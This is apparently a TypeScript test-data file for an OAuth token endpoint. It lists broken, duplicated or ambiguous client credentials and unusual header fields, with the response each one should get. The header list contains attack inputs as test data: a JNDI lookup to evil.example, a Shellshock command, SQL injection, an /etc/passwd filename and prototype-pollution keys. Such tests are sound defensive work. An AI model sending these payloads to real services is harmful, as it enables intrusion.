/** Ways to authenticate that are broken, doubled or beside one another, and header fields that must change nothing. */
import { secretOf } from "../world.js";
import { accepted, base64, BASIC, bytes, GOOD, GRANT, malformed, type OddRequest, refused } from "./odd-request.js";

const SECRET = secretOf("spark");
const ASSERTION_TYPE = `client_assertion_type=${encodeURIComponent("urn:ietf:params:oauth:client-assertion-type:jwt-bearer")}`;

/** `client_credentials` with nothing but this header. */
function header(value: string, body = GRANT) {
  return { headers: [`Authorization: ${value}`], body };
}

function basic(text: string): string {
  return `Basic ${base64(text)}`;
}

const wrong = (name: string, value: string): OddRequest => refused(name, 401, "invalid_client", header(value));

const BROKEN: readonly OddRequest[] = [
  wrong("Basic alone", "Basic"),
  wrong("Basic with spaces", "Basic    "),
  wrong("Basic with no base64", "Basic !!!!"),
  wrong("Basic with one letter", "Basic a"),
  wrong("Basic with padding alone", "Basic ===="),
  wrong("Basic without padding", `Basic ${base64(`spark:${SECRET}x`).replace(/=+$/, "")}`),
  wrong("Basic with too much padding", `${basic(`spark:${SECRET}`)}=`),
  wrong("Basic in base64url", `Basic ${Buffer.from("spark:~~~???>>>").toString("base64url")}`),
  wrong("Basic with a space inside", `Basic ${base64(`spark:${SECRET}`).replace(/(.{8})/, "$1 ")}`),
  wrong("Basic with words behind it", `${basic(`spark:${SECRET}`)} realm=x`),
  wrong("Basic of broken UTF-8", "Basic /////w=="),
  wrong("Basic of a NUL", basic("\0")),
  wrong("Basic of a colon alone", basic(":")),
  wrong("Basic of a wrong secret with an empty id", basic(":not-the-secret-of-anyone")),
  wrong("Basic with an empty secret", basic("spark:")),
  wrong("Basic with the id alone", basic("spark")),
  wrong("Basic with a NUL in the id", basic(`spark\0:${SECRET}`)),
  wrong("Basic with a NUL behind the secret", basic(`spark:${SECRET}\0`)),
  wrong("Basic with a newline in the id", basic(`sp\nark:${SECRET}`)),
  wrong("Basic with a newline in the secret", basic(`spark:${SECRET.slice(0, 4)}\n${SECRET.slice(4)}`)),
  wrong("Basic with control characters", basic("\u0001\u0002:\u0003")),
  wrong("Basic with a byte order mark", basic(`\ufeffspark:${SECRET}`)),
  wrong("Basic with a colon in the secret", basic(`spark:${SECRET}:`)),
  wrong("Basic with an id of 4,096 letters", basic(`${"i".repeat(4096)}:x`)),
  wrong("Basic with a secret of 16,000 letters", basic(`spark:${"s".repeat(16_000)}`)),
  wrong("Basic of 30,000 letters", `Basic ${"A".repeat(30_000)}`),
  wrong("Basic with a broken escape", basic(`spark:${SECRET}%zz`)),
  wrong("Basic with SQL", basic("' OR '1'='1:' OR '1'='1")),
  wrong("Basic with __proto__", basic("__proto__:x")),
  wrong("Basic as a list of schemes", `${basic(`spark:${SECRET}`)}, Bearer x`),
  wrong("Bearer for client_credentials", "Bearer some-token"),
  wrong("Bearer alone", "Bearer"),
  wrong("Bearer with spaces inside", "Bearer a b c"),
  wrong("Bearer with a comma", "Bearer a, Bearer b"),
  wrong("Digest", 'Digest username="spark", response="x"'),
  wrong("Negotiate", "Negotiate YII="),
  wrong("DPoP", "DPoP abc.def.ghi"),
  wrong("an unknown scheme", "Token abc"),
  wrong("a scheme of 20,000 letters", "x".repeat(20_000)),
  wrong("a quoted Authorization", `"${basic(`spark:${SECRET}`)}"`),
  wrong("credentials without a scheme", base64(`spark:${SECRET}`)),
  refused("no credentials", 401, "invalid_client", { body: GRANT }),
  refused("client_id alone", 401, "invalid_client", { body: `${GRANT}&client_id=spark` }),
  refused("an empty Authorization", 401, "invalid_client", header("")),
  refused("X-Authorization", 401, "invalid_client", { headers: [`X-${BASIC}`], body: GRANT }),
  refused("Proxy-Authorization", 401, "invalid_client", { headers: [`Proxy-${BASIC}`], body: GRANT }),
  refused("credentials in a cookie", 401, "invalid_client", {
    headers: [`Cookie: client_secret=${SECRET}`],
    body: GRANT,
  }),
  refused("a client certificate in a header", 401, "invalid_client", {
    headers: ['X-Forwarded-Client-Cert: Subject="CN=spark"', "X-SSL-Client-S-DN: CN=spark"],
    body: `${GRANT}&client_id=spark`,
  }),
  ...["disabled", "expired"].map((id) =>
    refused(`the right secret of client ${id}`, 401, "invalid_client", {
      body: `${GRANT}&client_id=${id}&client_secret=${secretOf(id)}`,
    }),
  ),
  refused("another client's secret", 401, "invalid_client", {
    body: `${GRANT}&client_id=spark&client_secret=${secretOf("trino")}`,
  }),
];

const ASSERTION = `${ASSERTION_TYPE}&client_assertion=a.b.c`;
const AMBIGUOUS: readonly OddRequest[] = [
  malformed("two Authorization headers", { headers: [BASIC, BASIC], body: GRANT }),
  malformed("two Authorization headers in two cases", { headers: [BASIC, `aUTHORIZATION: Bearer x`], body: GRANT }),
  malformed("an empty Authorization header and a full one", { headers: [BASIC, "Authorization:"], body: GRANT }),
  malformed("Basic and client_secret, both right", { headers: [BASIC], body: GOOD }),
  malformed("Basic wrong and client_secret right", header(basic("spark:wrong"), GOOD)),
  malformed("Basic right and client_secret wrong", { headers: [BASIC], body: `${GRANT}&client_secret=wrong` }),
  malformed("Basic broken and client_secret right", header("Basic !!!", GOOD)),
  malformed("Basic and an assertion", { headers: [BASIC], body: `${GRANT}&${ASSERTION}` }),
  malformed("client_secret and an assertion", { body: `${GOOD}&${ASSERTION}` }),
  malformed("client_secret and an assertion type", { body: `${GOOD}&${ASSERTION_TYPE}` }),
  malformed("all three", { headers: [BASIC], body: `${GOOD}&${ASSERTION}` }),
  malformed("an assertion without its type", { body: `${GRANT}&client_assertion=a.b.c` }),
  malformed("an assertion type without an assertion", { body: `${GRANT}&${ASSERTION_TYPE}` }),
  refused("an assertion of an unknown type", [400, 401], "invalid_client", {
    body: `${GRANT}&client_assertion=a.b.c&client_assertion_type=urn:ietf:params:oauth:client-assertion-type:saml2-bearer`,
  }),
  refused("an assertion of the right type in capitals", [400, 401], "invalid_client", {
    body: `${GRANT}&client_assertion=a.b.c&${ASSERTION_TYPE.replace("jwt-bearer", "JWT-BEARER")}`,
  }),
  malformed("Basic and another client_id", { headers: [BASIC], body: `${GRANT}&client_id=trino` }),
  malformed("Basic and a client_id that nobody has", { headers: [BASIC], body: `${GRANT}&client_id=nobody` }),
  accepted("Basic and its client_id", { headers: [BASIC], body: `${GRANT}&client_id=spark` }),
  accepted("Basic with two spaces", header(`Basic  ${base64(`spark:${SECRET}`)}`)),
  accepted("basic in lower case", header(`basic ${base64(`spark:${SECRET}`)}`)),
  accepted("BASIC in capitals", header(`BASIC ${base64(`spark:${SECRET}`)}`)),
  accepted("Basic with form-encoded halves", header(basic(`sp%61rk:${encodeURIComponent(SECRET)}`))),
  accepted("a stale Bearer beside client_secret", header("Bearer stale", GOOD)),
  accepted("an unknown scheme beside client_secret", header("Negotiate YII=", GOOD)),
  accepted("an empty Authorization beside client_secret", header("", GOOD)),
];

/** Header fields that ask for something else than a token, or lie about the caller. */
const IGNORED = [
  "Accept: text/html",
  "Accept: application/xml;q=1, */*;q=0",
  "Accept: application/token-introspection+jwt",
  "Accept: \u00e9",
  "Accept-Encoding: gzip, br",
  "Accept-Charset: utf-16",
  "Accept-Language: tlh",
  "Range: bytes=0-1",
  "If-None-Match: *",
  'If-Match: "x"',
  "If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT",
  "Upgrade: websocket",
  "Upgrade: h2c",
  "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
  "TE: trailers, deflate;q=0.5",
  "Trailer: Authorization",
  "X-HTTP-Method-Override: GET",
  "X-Original-URL: /metrics",
  "X-Rewrite-URL: /metrics",
  "X-Forwarded-Host: evil.example",
  "X-Forwarded-Proto: ftp",
  "X-Forwarded-Prefix: /evil",
  'Forwarded: for="_hidden";by=203.0.113.43',
  "X-Forwarded-For: not-an-address",
  "X-Forwarded-For: 127.0.0.1, , ;drop table, 10.0.0.1:99999, [::1",
  `X-Forwarded-For: ${"1.1.1.1,".repeat(2000)}`,
  "X-Real-IP: 127.0.0.1",
  "X-Request-Id: a b\tc",
  `X-Request-Id: ${"i".repeat(65)}`,
  "X-Request-Id: ${jndi:ldap://evil.example/a}",
  "traceparent: 00-00000000000000000000000000000000-0000000000000000-ff",
  "traceparent: garbage",
  "Origin: https://evil.example",
  "Origin: null",
  "Referer: https://evil.example/?token=x",
  "Cookie: session=1; __proto__=x",
  "Connection: close, Authorization, Content-Length",
  "Keep-Alive: timeout=999999999",
  "Max-Forwards: 0",
  "Pragma: x",
  "Date: yesterday",
  "Content-MD5: x",
  "Content-Language: x",
  "Content-Location: /metrics",
  "Content-Disposition: attachment; filename=/etc/passwd",
  "Destination: /v1/oauth/revoke",
  "Sec-WebSocket-Key: x",
  "User-Agent: () { :;}; /bin/id",
  "__proto__: x",
  "constructor: x",
];

const HEADERS: readonly OddRequest[] = [
  ...IGNORED.map((line) => accepted(`a header ${line.slice(0, 60)}`, { headers: [line] })),
  accepted("another Host", { headers: ["Host: evil.example"] }),
  ...["${x}:99999", "a b", "a/b", "a@b", "<script>", "\u00e9"].map((host) =>
    malformed(`Host ${JSON.stringify(host)}`, { headers: [`Host: ${host}`] }),
  ),
  {
    ...accepted("Expect: 100-continue", {}),
    sending: { pieces: [bytes({ headers: ["Expect: 100-continue"] })] },
    answers: 2,
  },
  refused("an expectation that nobody meets", 417, "invalid_request", { headers: ["Expect: the-impossible"] }),
  refused("GET with an override to POST", 405, "invalid_request", {
    method: "GET",
    headers: ["X-HTTP-Method-Override: POST"],
  }),
];

export const CREDENTIALS: readonly OddRequest[] = [...BROKEN, ...AMBIGUOUS, ...HEADERS];
